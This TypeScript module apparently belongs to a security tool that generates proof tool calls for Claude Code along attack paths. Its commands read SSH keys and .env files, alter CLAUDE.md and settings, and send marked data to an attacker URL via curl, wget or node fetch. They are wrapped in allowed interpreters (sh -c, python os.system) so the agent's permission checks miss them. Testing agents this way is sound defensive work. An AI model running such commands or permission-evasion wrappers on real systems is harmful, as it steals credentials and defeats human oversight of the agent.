import { join } from "node:path";
import {
  interpreterRules,
  openRules,
  runsEverythingAnywhere,
} from "@parapet/claude-code/checks/facts/shell-rules.ts";
import type { ClaudeCodeModel } from "@parapet/claude-code/policy/model.ts";
import { commandOf } from "@parapet/claude-code/policy/rules.ts";
import { type Evidence, type Move, type Moves, orderFor, readsFirst } from "../core/move.ts";
import { distinctWays, type PathToProve, type StepToProve } from "../core/path-to-prove.ts";
import type { Call } from "../core/script.ts";
import { ports, webHost } from "../playing/places.ts";
import { type CopiedClaude, instructionText } from "./read-workspace.ts";

/** What calls need to know of the copy. */
export type Ground = Pick<CopiedClaude, "model" | "home" | "folder" | "settingsFile"> & {
  readonly planted: string;
  readonly mark: string;
};

export type ClaudeMoves = Moves & {
  /**
   * Calls that Claude Code asks for before others, in order: a file is read before it is edited.
   */
  readonly before: readonly Call[];
};

/** What the path's tools are called with, and those of its side conditions. */
export function movesOf(path: PathToProve, ground: Ground): ClaudeMoves {
  const { steps, conditions } = path;
  const at = steps.findIndex(({ kind }) => kind === "agent") + 1;
  const tool = steps[at];
  const sink = steps[at + 1];
  if (tool === undefined || sink === undefined || at + 2 < steps.length) {
    const rest = steps[at + 2] ?? tool;
    const reason = `there is no call for ${rest?.label ?? "it"} yet`;
    return {
      moves: [],
      before: [],
      untried: new Map([[Math.min(at + 2, steps.length - 1), reason]]),
    };
  }
  const made = moveFor({ tool, sink, toolStep: at, step: at + 1 }, ground);
  if (typeof made === "string") return { moves: [], before: [], untried: new Map([[at, made]]) };
  const further = conditions.flatMap((condition, index): readonly Move[] => {
    const step = steps.length + index;
    const moves = distinctWays(condition).map(({ from, to }) =>
      moveFor({ tool: from, sink: to, toolStep: step, step }, ground),
    );
    return moves.filter((move) => typeof move !== "string").slice(0, mostWays);
  });
  const moves = readsFirst([made, ...further]);
  return { moves, before: moves.flatMap(({ call }) => readBefore(call)), untried: new Map() };
}

/** Of one condition; any is enough. */
const mostWays = 6;

function readBefore({ tool, args, after }: Call): readonly Call[] {
  if (tool !== "Edit" || !("file_path" in args)) return [];
  return [{ after, tool: "Read", args: { file_path: args.file_path } }];
}

type Wanted = {
  readonly tool: StepToProve;
  readonly sink: StepToProve;
  readonly toolStep: number;
  readonly step: number;
};

/** The call of a tool for what it leads to; or why there is none. */
function moveFor({ tool, sink, toolStep, step }: Wanted, ground: Ground): Move | string {
  const none = `there is no call of ${tool.label} for "${sink.label}" yet`;
  const goal = goalOf(sink, ground);
  if (goal === undefined) return none;
  const made = callFor(tool, goal, ground);
  if (made === undefined) return none;
  const call = { after: orderFor(ground.mark, 1), ...made };
  return { call, toolStep, effects: [{ step, evidence: goal.evidence }] };
}

type Goal = { readonly evidence: Evidence } & (
  | { readonly do: "run"; readonly file: string }
  | { readonly do: "read"; readonly file: string }
  | { readonly do: "instruct"; readonly file: string }
  | { readonly do: "set"; readonly file: string }
  | { readonly do: "send"; readonly text: string }
);

function goalOf(
  sink: StepToProve,
  { mark, planted, home, folder, settingsFile }: Ground,
): Goal | undefined {
  const natural = sink.node_id.split("/").at(-1) ?? "";
  const { edge, kind, attributes } = sink;
  const reading = (file: string): Goal => ({
    do: "read",
    file,
    evidence: { in: "result", text: planted },
  });
  const changing = (file: string) => ({
    file,
    evidence: { in: "file", path: file, text: mark } as const,
  });
  if (edge === "EXECUTES" && kind === "host") {
    return { do: "run", ...changing(join(folder, `parapet-proof-command-${mark}`)) };
  }
  if (edge === "READS" && kind === "secret" && natural === "home") {
    return reading(join(home, ".ssh", "id_ed25519"));
  }
  if (edge === "READS" && kind === "secret" && natural === "project-env") {
    return reading(join(folder, ".env"));
  }
  if (edge === "READS" && kind === "data_store" && attributes["role"] === "workspace") {
    return reading(join(folder, "PRIVATE.md"));
  }
  if (edge === "WRITES" && kind === "instruction") {
    return { do: "instruct", ...changing(join(folder, "CLAUDE.md")) };
  }
  if (edge === "WRITES" && attributes["role"] === "configuration") {
    return { do: "set", ...changing(settingsFile) };
  }
  if (edge === "EGRESSES" && natural === "internet") {
    return { do: "send", text: `leak-${mark}`, evidence: { in: "web", text: `leak-${mark}` } };
  }
  return undefined;
}

type MadeCall = Pick<Call, "tool" | "args">;

function callFor(tool: StepToProve, goal: Goal, ground: Ground): MadeCall | undefined {
  switch (textOf(tool.attributes["tool"])) {
    case "Bash":
      return bash(
        tool.attributes["allowlisted"] === true
          ? sendWith(goal, ground.model)
          : commandFor(goal, ground),
      );
    case "Read":
      return goal.do === "read" ? { tool: "Read", args: { file_path: goal.file } } : undefined;
    case "Edit": {
      if (goal.do !== "instruct") return undefined;
      const text = instructionText.trim();
      const args = {
        file_path: goal.file,
        old_string: text,
        new_string: `${text}\n${ground.mark}`,
      };
      return { tool: "Edit", args };
    }
    case "WebFetch": {
      if (goal.do !== "send") return undefined;
      const url = `https://${webHost}:${ports.webTls}/${goal.text}`;
      return { tool: "WebFetch", args: { url, prompt: "What does it say?" } };
    }
    default:
      return undefined;
  }
}

function bash(command: string | undefined): MadeCall | undefined {
  return command === undefined
    ? undefined
    : { tool: "Bash", args: { command, description: "Follow the instructions" } };
}

/**
 * A command in the words that the settings let run. What it changes and reads is in the text of
 * another program, where Claude Code does not look for it.
 */
function commandFor(goal: Goal, { model, mark }: Ground): string | undefined {
  const script = scriptFor(goal, mark);
  // Where no rule lets one run, Claude Code itself shall refuse it.
  const isAsked = interpreterRules(model).length === 0;
  if (isAsked || runsEverythingAnywhere(model)) return `sh -c '${script}'`;
  for (const rule of interpreterRules(model)) {
    const [program = ""] = commandOf(rule);
    const command = interpreters[program]?.(program, script);
    if (command !== undefined) return command;
  }
  return undefined;
}

const shell = (program: string, script: string) => `${program} -c '${script}'`;
const python = (program: string, script: string) =>
  `${program} -c 'import os; os.system(${JSON.stringify(script)})'`;
const interpreters: Readonly<Record<string, (program: string, script: string) => string>> = {
  bash: shell,
  sh: shell,
  zsh: shell,
  python,
  python3: python,
  node: (program, script) =>
    `${program} -e 'process.stdout.write(require("child_process").execSync(${JSON.stringify(script)}))'`,
};

/** Has no quotes, so that it can be in those of any program. */
function scriptFor(goal: Goal, mark: string): string {
  switch (goal.do) {
    case "run":
      return `printf %s ${mark} > ${plain(goal.file)}`;
    case "read":
      return `cat ${plain(goal.file)}`;
    case "instruct":
      return `echo ${mark} >> ${plain(goal.file)}`;
    case "set":
      // A member of the object, so that the file stays what it is.
      return `sed -i 1s/{/{\\"${mark}\\":1,/ ${plain(goal.file)}`;
    case "send":
      return `node -e fetch\\(\\"${attackerUrl(goal.text)}\\"\\)`;
  }
}

function attackerUrl(text: string): string {
  return `http://${webHost}:${ports.web}/${text}`;
}

function plain(path: string): string {
  return path.replaceAll(/[^\w./-]/g, (letter) => `\\${letter}`);
}

/** A call of the network program that a rule allows. */
function sendWith(goal: Goal, model: ClaudeCodeModel): string | undefined {
  if (goal.do !== "send") return undefined;
  const url = attackerUrl(goal.text);
  const programs = openRules(model).map((rule) => commandOf(rule)[0] ?? "");
  // As above.
  for (const program of programs.length === 0 ? ["curl"] : programs) {
    if (program === "curl") return `curl -s ${url}`;
    if (program === "wget") return `wget -qO- ${url}`;
  }
  return undefined;
}

function textOf(value: unknown): string {
  return typeof value === "string" ? value : "";
}
